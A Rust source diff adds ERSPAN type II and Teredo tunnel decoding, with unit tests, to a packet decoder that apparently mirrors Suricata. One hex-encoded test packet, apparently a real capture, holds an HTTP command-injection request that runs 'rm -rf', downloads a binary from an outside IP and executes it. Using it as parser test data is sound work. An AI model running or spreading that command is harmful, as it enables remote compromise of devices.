@@ -236,9 +236,20 @@ pub struct Decoder {
     pending_vlan: [u16; 2],
     /// Tunnel nesting of the packet being decoded.
     depth: u8,
-    /// Address and length of a VXLAN/Geneve inner frame inside the last packet.
-    inner: Option<(usize, usize)>,
+    /// Address, length and kind of a VXLAN/Geneve/Teredo inner packet inside the last one.
+    inner: Option<(usize, usize, Inner)>,
+    /// VLAN layers of the packet being decoded so far (Suricata's `vlan_idx`).
+    vlan_layers: usize,
     pub stats: DecodeStats,
+}
+
+/// What a UDP tunnel carries: decoded by [`Decoder::decode_inner`] as a packet of its own.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Inner {
+    /// VXLAN, Geneve: an Ethernet frame.
+    Ethernet,
+    /// Teredo: an IPv6 packet, in the outer packet's VLANs.
+    Ipv6([u16; 2]),
 }
 
 /// Most VLAN tags decoded (Suricata's limit); the first two are part of the flow key.
@@ -256,6 +267,7 @@ impl Decoder {
             pending_vlan: [0; 2],
             depth: 0,
             inner: None,
+            vlan_layers: 0,
             stats: DecodeStats {
                 events: vec![0; DecodeEvent::ALL.len()],
                 ..Default::default()
@@ -284,6 +296,7 @@ impl Decoder {
         self.pending = false;
         self.depth = 0;
         self.inner = None;
+        self.vlan_layers = 0;
         let mut d = Decoded::empty();
         match link {
             LinkType::Ethernet => match EthernetFrame::new_checked(pkt) {
@@ -435,10 +448,11 @@ impl Decoder {
         mut payload: &'a [u8],
         d: &mut Decoded<'a>,
         ts: i64,
-        _depth: u8,
+        first_layer: usize,
     ) {
-        let mut layers = 0usize;
+        let mut layers = first_layer;
         loop {
+            self.vlan_layers = layers;
             match et {
                 EtherType::Ipv4 => return self.ipv4(payload, d, ts),
                 EtherType::Ipv6 => return self.ipv6(payload, d, ts),
@@ -519,6 +533,10 @@ impl Decoder {
                     self.ether(et, p, d, ts, 0);
                 }
             }
+            // ERSPAN type II (sequence number flag set). Like Suricata 7's defaults, type I
+            // (no sequence number: `decoder.erspan.typeI.enabled` is off) and type III
+            // (0x22eb, which Suricata 7 does not know) are not decoded.
+            (0, 0x88be) if flags & 0x1000 != 0 => self.erspan2(inner, d, ts),
             (1, 0x880b) => {
                 // PPP, optionally with address/control bytes ff 03.
                 let ppp = match inner {
@@ -537,6 +555,36 @@ impl Decoder {
                 }
             }
             _ => {}
+        }
+    }
+
+    /// ERSPAN type II header (8 bytes): ver(4) vlan(12) cos(3) en(2) t(1) session(10)
+    /// reserved(12) index(20), then the mirrored Ethernet frame. A non-zero VLAN is added
+    /// to the packet's VLANs (before the inner frame's own tags), as Suricata does.
+    fn erspan2<'a>(&mut self, b: &'a [u8], d: &mut Decoded<'a>, ts: i64) {
+        let (Some(&[v0, v1]), Some(frame)) = (b.get(..2), b.get(ERSPAN2_HEADER_LEN..)) else {
+            return d.events.push(DecodeEvent::ErspanHeaderTooSmall);
+        };
+        if v0 >> 4 != 1 {
+            return d.events.push(DecodeEvent::ErspanUnsupportedVersion);
+        }
+        let vlan = u16::from_be_bytes([v0 & 0x0f, v1]);
+        let mut layers = self.vlan_layers;
+        if vlan > 0 {
+            if layers >= MAX_VLAN_LAYERS {
+                return d.events.push(DecodeEvent::ErspanTooManyVlanLayers);
+            }
+            if let Some(v) = d.vlan.get_mut(layers) {
+                *v = vlan;
+            }
+            layers += 1;
+        }
+        match EthernetFrame::new_checked(frame) {
+            Some(eth) => {
+                let (et, p) = (eth.ethertype(), eth.payload());
+                self.ether(et, p, d, ts, layers);
+            }
+            None => d.events.push(DecodeEvent::EthernetPktTooSmall),
         }
     }
 
@@ -676,14 +724,21 @@ impl Decoder {
         self.udp_tunnel(d);
     }
 
-    /// VXLAN (UDP 4789, RFC 7348) and Geneve (UDP 6081, RFC 8926) carry Ethernet frames.
-    /// Like Suricata, the outer datagram keeps its UDP flow and the inner frame is decoded
-    /// as a packet of its own: its position is remembered for [`Decoder::decode_inner`].
+    /// VXLAN (UDP 4789, RFC 7348) and Geneve (UDP 6081, RFC 8926) carry Ethernet frames,
+    /// Teredo (RFC 4380, usually UDP 3544) IPv6 packets. Like Suricata, the outer
+    /// datagram keeps its UDP flow and the inner packet is decoded as a packet of its own:
+    /// its position is remembered for [`Decoder::decode_inner`].
     fn udp_tunnel(&mut self, d: &Decoded<'_>) {
         if d.l4 != L4::Udp || self.depth > 0 {
             return;
         }
         let p = d.payload;
+        // Teredo on any port: Suricata 7 checks ports only when `decoder.teredo.ports` is
+        // configured (the parity configuration does not), and relays use any port.
+        if let Some(ip) = teredo_ipv6(p) {
+            self.inner = Some((ip.as_ptr() as usize, ip.len(), Inner::Ipv6(d.vlan)));
+            return;
+        }
         let inner = match d.dp {
             // flags(1, I bit 0x08) reserved(3) VNI(3) reserved(1)
             4789 if p.len() >= 8 + 14 && p[0] & 0x08 != 0 => &p[8..],
@@ -699,25 +754,61 @@ impl Decoder {
             }
             _ => return,
         };
-        self.inner = Some((inner.as_ptr() as usize, inner.len()));
+        self.inner = Some((inner.as_ptr() as usize, inner.len(), Inner::Ethernet));
     }
 
-    /// If the last `decode` found a VXLAN/Geneve payload, decodes the inner Ethernet frame.
+    /// If the last `decode` found a VXLAN/Geneve/Teredo payload, decodes the inner packet.
     /// `pkt` must be the packet given to that `decode` call.
     pub fn decode_inner<'a>(&mut self, pkt: &'a [u8], ts: i64) -> Option<Decoded<'a>> {
-        let (addr, len) = self.inner.take()?;
+        let (addr, len, kind) = self.inner.take()?;
         let start = addr.checked_sub(pkt.as_ptr() as usize)?;
         let inner = pkt.get(start..start.checked_add(len)?)?;
-        let eth = EthernetFrame::new_checked(inner)?;
-        self.depth = 1;
-        self.stats.tunnels += 1;
         let mut d = Decoded::empty();
-        let (et, payload) = (eth.ethertype(), eth.payload());
-        self.ether(et, payload, &mut d, ts, 0);
+        self.vlan_layers = 0;
+        match kind {
+            Inner::Ethernet => {
+                let eth = EthernetFrame::new_checked(inner)?;
+                self.depth = 1;
+                let (et, payload) = (eth.ethertype(), eth.payload());
+                self.ether(et, payload, &mut d, ts, 0);
+            }
+            Inner::Ipv6(vlan) => {
+                self.depth = 1;
+                d.vlan = vlan;
+                self.ipv6(inner, &mut d, ts);
+            }
+        }
+        self.stats.tunnels += 1;
         self.depth = 0;
         self.count(&d);
         Some(d)
     }
+}
+
+/// ERSPAN type II header length.
+const ERSPAN2_HEADER_LEN: usize = 8;
+
+/// Teredo origin indication: 0x0000, port(2), address(4), obfuscated.
+const TEREDO_ORIGIN_LEN: usize = 8;
+
+/// The IPv6 packet carried by a Teredo UDP payload, if it is one. Teredo has no magic
+/// number, so like Suricata this accepts only: an optional origin indication (`00 00`;
+/// an authentication indicator `00 01` is qualification traffic, not tunnelled data, and
+/// any other `00 xx` is not Teredo), then an IPv6 header with a non-zero hop limit, not a
+/// hop-by-hop header with under 8 bytes, whose payload length fills the datagram exactly.
+fn teredo_ipv6(p: &[u8]) -> Option<&[u8]> {
+    let ip = match p {
+        [0, 0, ..] => p.get(TEREDO_ORIGIN_LEN..)?,
+        [0, ..] => return None,
+        _ => p,
+    };
+    let h = ip.get(..ipv6::IPV6_HEADER_LEN)?;
+    let plen = usize::from(u16::from_be_bytes([h[4], h[5]]));
+    let (next, hop) = (h[6], h[7]);
+    if h[0] >> 4 != 6 || hop == 0 || (next == 0 && plen < 8) {
+        return None;
+    }
+    (ip.len() == ipv6::IPV6_HEADER_LEN + plen).then_some(ip)
 }
 
 /// Decodes the transport header in `b` (an IP payload) into `d`.
@@ -1086,5 +1177,170 @@ mod tests {
         let g1b = frag(8, true, &udp[8..16]);
         let d = dec.decode(LinkType::Raw, &g1b, 3);
         assert!(d.events.contains(DecodeEvent::Ipv4FragOverlap));
+    }
+
+    fn unhex(s: &str) -> Vec<u8> {
+        (0..s.len())
+            .step_by(2)
+            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
+            .collect()
+    }
+
+    /// sv-corpus-merged.pcap packet 7228: Ethernet, IPv4 (proto 47), GRE with the sequence
+    /// flag (0x1000, protocol 0x88be), ERSPAN type II (version 1, VLAN 6), then an
+    /// Ethernet frame with IPv4/TCP "GET /shell?cd+/tmp..." to port 80.
+    const ERSPAN2_PKT: &str = "0000000000000cd0f88c677d0800450001568db40000fe2fd2c97a508f2e\
+        83cb62f3100088be000000001006000600000014002052ff03036c310e2a01230800450001246c744000\
+        3606bf73b7ab6481011308d5ea220050aa1a4a03043ce84780190447d95b00000101080a00ffdac93d27\
+        ee73474554202f7368656c6c3f63642b2f746d703b726d2b2d72662b2a3b776765742b20687474703a2f\
+        2f32332e39342e372e3137352f2e7334792f61726d3b73682b2f746d702f61726d20485454502f312e31\
+        0d0a557365722d4167656e743a2048656c6c6f2c20776f726c640d0a486f73743a203132372e302e302e\
+        313a38300d0a4163636570743a20746578742f68746d6c2c6170706c69636174696f6e2f7868746d6c2b\
+        786d6c2c6170706c69636174696f6e2f786d6c3b713d302e392c696d6167652f776562702c2a2f2a3b71\
+        3d302e380d0a436f6e6e656374696f6e3a206b6565702d616c6976650d0a0d0a";
+
+    /// Offset of the ERSPAN header in `ERSPAN2_PKT` (Ethernet 14 + IPv4 20 + GRE 8).
+    const ERSPAN_OFF: usize = 42;
+
+    #[test]
+    fn erspan_type2_is_decoded_as_its_inner_frame_with_its_vlan() {
+        let pkt = unhex(ERSPAN2_PKT);
+        let mut dec = decoder();
+        let d = dec.decode(LinkType::Ethernet, &pkt, 0);
+        assert!(d.events.is_empty(), "{:?}", d.events);
+        assert_eq!(d.vlan, [6, 0]);
+        let a = d.addrs.expect("inner addresses");
+        assert_eq!(&a.src[..4], &[183, 171, 100, 129]);
+        assert_eq!(&a.dst[..4], &[1, 19, 8, 213]);
+        assert_eq!((d.proto, d.sp, d.dp), (6, 59938, 80));
+        assert!(d.payload.starts_with(b"GET /shell?cd+/tmp"));
+        assert_eq!(dec.stats.tunnels, 1);
+    }
+
+    #[test]
+    fn erspan_malformed_headers_raise_suricata_events() {
+        let pkt = unhex(ERSPAN2_PKT);
+        // Truncated inside the ERSPAN header (outer IPv4 length fixed up so that the cut is
+        // the datagram's end, not an IPv4 truncation).
+        for cut in ERSPAN_OFF..ERSPAN_OFF + ERSPAN2_HEADER_LEN {
+            let mut p = pkt[..cut].to_vec();
+            p[16..18].copy_from_slice(&((cut - 14) as u16).to_be_bytes());
+            let d = decoder().decode(LinkType::Ethernet, &p, 0);
+            assert!(
+                d.events.contains(DecodeEvent::ErspanHeaderTooSmall),
+                "cut {cut}: {:?}",
+                d.events
+            );
+            assert!(d.addrs.is_none());
+        }
+        // Header complete, inner Ethernet frame too short.
+        let cut = ERSPAN_OFF + ERSPAN2_HEADER_LEN + 10;
+        let mut p = pkt[..cut].to_vec();
+        p[16..18].copy_from_slice(&((cut - 14) as u16).to_be_bytes());
+        let d = decoder().decode(LinkType::Ethernet, &p, 0);
+        assert!(d.events.contains(DecodeEvent::EthernetPktTooSmall));
+        // Versions other than 1 (type II) are not decoded.
+        for v in [0u8, 2, 15] {
+            let mut p = pkt.clone();
+            p[ERSPAN_OFF] = (v << 4) | (p[ERSPAN_OFF] & 0x0f);
+            let d = decoder().decode(LinkType::Ethernet, &p, 0);
+            assert!(d.events.contains(DecodeEvent::ErspanUnsupportedVersion));
+            assert!(d.addrs.is_none());
+        }
+        // An ERSPAN VLAN on top of three VLAN tags already: too many layers.
+        let mut p = pkt[..12].to_vec();
+        for vid in [1u8, 2, 3] {
+            p.extend_from_slice(&[0x81, 0x00, 0x00, vid]);
+        }
+        p.extend_from_slice(&pkt[12..]);
+        let d = decoder().decode(LinkType::Ethernet, &p, 0);
+        assert!(d.events.contains(DecodeEvent::ErspanTooManyVlanLayers));
+        // Without the sequence flag it is type I, which Suricata 7 leaves undecoded by
+        // default; 0x22eb (type III) is not decoded either.
+        for (flags, proto) in [([0x00, 0x00], [0x88, 0xbe]), ([0x10, 0x00], [0x22, 0xeb])] {
+            let mut p = pkt.clone();
+            p[34..36].copy_from_slice(&flags);
+            p[36..38].copy_from_slice(&proto);
+            let d = decoder().decode(LinkType::Ethernet, &p, 0);
+            assert!(d.addrs.is_none() && d.events.is_empty());
+        }
+    }
+
+    /// sv-corpus-merged.pcap packet 12866: IPv4/UDP 192.168.2.16:3797 -> 83.170.1.38:32900
+    /// (a Teredo relay, not port 3544) carrying an IPv6 TCP SYN from the Teredo address
+    /// 2001:0:4137:9e50:8000:f12a:b9c8:2815 port 1286 to 2001:4860:0:2001::68 port 80.
+    const TEREDO_PKT: &str = "001d5adccff10016cf419c2008004500005c87de000080119b2ac0a80210\
+        53aa01260ed580840048f20160000000001806802001000041379e508000f12ab9c82815200148600000\
+        20010000000000000068050600507c7b6b46000000006002400090a20000020404c4";
+
+    /// sv-corpus-merged.pcap packet 12838: a Teredo router solicitation to the server's
+    /// port 3544 behind an authentication indicator (qualification, not tunnelled data).
+    const TEREDO_AUTH_PKT: &str = "001d5adccff10016cf419c2008004500006987c3000080111081c0a8\
+        021041379e500ed50dd80055597900010000cd5669400b22df88006000000000183afffe800000000000\
+        008000fffffffffffdff0200000000000000000000000000028500a91d0000000001020000000000008000\
+        f12ab9c82815";
+
+    #[test]
+    fn teredo_inner_ipv6_is_a_packet_of_its_own() {
+        let pkt = unhex(TEREDO_PKT);
+        let mut dec = decoder();
+        let outer = dec.decode(LinkType::Ethernet, &pkt, 0);
+        assert_eq!((outer.l4, outer.sp, outer.dp), (L4::Udp, 3797, 32900));
+        let inner = dec.decode_inner(&pkt, 0).expect("teredo inner packet");
+        let a = inner.addrs.expect("inner addresses");
+        assert!(a.v6);
+        assert_eq!(&a.src[..4], &[0x20, 0x01, 0, 0]);
+        assert_eq!((inner.proto, inner.sp, inner.dp), (6, 1286, 80));
+        assert!(matches!(inner.l4, L4::Tcp(t) if t.flags & 0x02 != 0));
+        assert!(inner.events.is_empty() && inner.csum_ok);
+        assert!(dec.decode_inner(&pkt, 0).is_none(), "taken once");
+
+        // The authentication indicator is not tunnelled data (Suricata does the same).
+        let auth = unhex(TEREDO_AUTH_PKT);
+        let d = dec.decode(LinkType::Ethernet, &auth, 0);
+        assert_eq!(d.dp, 3544);
+        assert!(dec.decode_inner(&auth, 0).is_none());
+    }
+
+    #[test]
+    fn teredo_validation() {
+        let pkt = unhex(TEREDO_PKT);
+        let ip = &pkt[42..];
+        assert_eq!(teredo_ipv6(ip), Some(ip));
+        // With an origin indication (00 00, port, address) before the IPv6 header.
+        let mut o = vec![0, 0, 0xf1, 0x2a, 0xb9, 0xc8, 0x28, 0x15];
+        o.extend_from_slice(ip);
+        assert_eq!(teredo_ipv6(&o), Some(ip));
+        // Origin indication with too little after it, unknown indicator types.
+        assert_eq!(teredo_ipv6(&o[..8 + 39]), None);
+        for t in [1u8, 2, 0xff] {
+            let mut x = o.clone();
+            x[1] = t;
+            assert_eq!(teredo_ipv6(&x), None);
+        }
+        // Every truncation, and one byte too many: the length must fill the datagram.
+        for cut in 0..ip.len() {
+            assert_eq!(teredo_ipv6(&ip[..cut]), None, "cut {cut}");
+        }
+        let mut long = ip.to_vec();
+        long.push(0);
+        assert_eq!(teredo_ipv6(&long), None);
+        // Wrong version, hop limit 0, hop-by-hop with under 8 bytes.
+        let mut v = ip.to_vec();
+        v[0] = 0x45;
+        assert_eq!(teredo_ipv6(&v), None);
+        let mut h = ip.to_vec();
+        h[7] = 0;
+        assert_eq!(teredo_ipv6(&h), None);
+        let mut hbh = ip[..44].to_vec();
+        hbh[4..6].copy_from_slice(&4u16.to_be_bytes());
+        hbh[6] = 0;
+        assert_eq!(teredo_ipv6(&hbh), None);
+        hbh[6] = 59;
+        assert_eq!(teredo_ipv6(&hbh), Some(&hbh[..]));
+        // Oversized payload length field.
+        let mut big = ip.to_vec();
+        big[4..6].copy_from_slice(&u16::MAX.to_be_bytes());
+        assert_eq!(teredo_ipv6(&big), None);
     }
 }
